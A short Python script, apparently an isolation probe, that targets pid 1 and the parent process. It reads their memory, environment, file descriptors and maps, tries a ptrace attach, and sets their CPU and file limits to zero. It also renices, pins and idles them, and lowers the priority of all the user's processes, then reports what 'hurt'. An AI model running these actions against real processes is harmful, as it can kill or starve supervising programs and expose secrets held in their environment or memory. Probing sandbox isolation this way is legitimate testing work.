# Everything one process may try on another of the same user.
import ctypes, os, resource
libc = ctypes.CDLL(None, use_errno=True)
found = []
parent = os.getppid() or 1
for pid in {1, parent} - {os.getpid()}:
    for what in ("mem", "environ", "fd", "maps"):
        try:
            path = f"/proc/{pid}/{what}"
            os.listdir(path) if what == "fd" else open(path, "rb").read(1)
            found.append(f"read {what}")
        except OSError:
            pass
    if libc.ptrace(16, pid, 0, 0) == 0:
        found.append("attached")
    for limit in (resource.RLIMIT_CPU, resource.RLIMIT_NOFILE):
        try:
            resource.prlimit(pid, limit, (0, 0))
            found.append("limited")
        except OSError:
            pass
    if libc.setpriority(0, pid, 19) == 0:
        found.append("slowed")
    try:
        os.sched_setaffinity(pid, {0})
        found.append("moved")
    except OSError:
        pass
    try:
        os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0))
        found.append("idled")
    except OSError:
        pass
try:
    os.setpriority(os.PRIO_USER, 0, 19)
    os.setpriority(os.PRIO_USER, os.getuid(), 19)
except OSError:
    pass
print("hurt: " + ", ".join(found) if found else "answer")
